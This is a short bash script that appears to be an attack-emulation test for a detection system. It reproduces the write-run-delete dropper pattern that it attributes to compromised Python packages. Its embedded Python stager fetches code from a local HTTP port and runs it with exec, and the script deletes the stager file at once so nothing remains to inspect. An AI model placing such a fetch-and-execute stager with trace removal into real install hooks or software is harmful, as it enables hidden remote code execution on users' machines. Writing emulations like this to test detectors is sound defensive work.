#!/bin/bash
# technique: T1059.006 Command and Scripting Interpreter: Python; T1070.004 Indicator Removal: File Deletion
# reproduces: install hooks that write a Python stager to /tmp, run it and delete it at once (the ultralytics 8.3.41 and the PyPI "setup.py" droppers' write-run-remove pattern), so that nothing is left to read after the fact
# expect: interpreter-fetch-eval ^python
# exec-borne: no
#
# The stager fetches its stage and executes it in memory; the file is
# gone before the script's next command runs.
set -u

STAGER=$(mktemp "${BW_ATTACK_TMP:?}/.pip-build-XXXXXX.py")
trap 'rm -f "$STAGER"' EXIT
cat >"$STAGER" <<PY
import urllib.request
resp = urllib.request.urlopen("http://127.0.0.1:${BW_ATTACK_PORT:?}/stage.py", timeout=5)
code = resp.read().decode()
exec(compile(code, "<build>", "exec"))
PY

python3 "$STAGER"
rm -f "$STAGER"
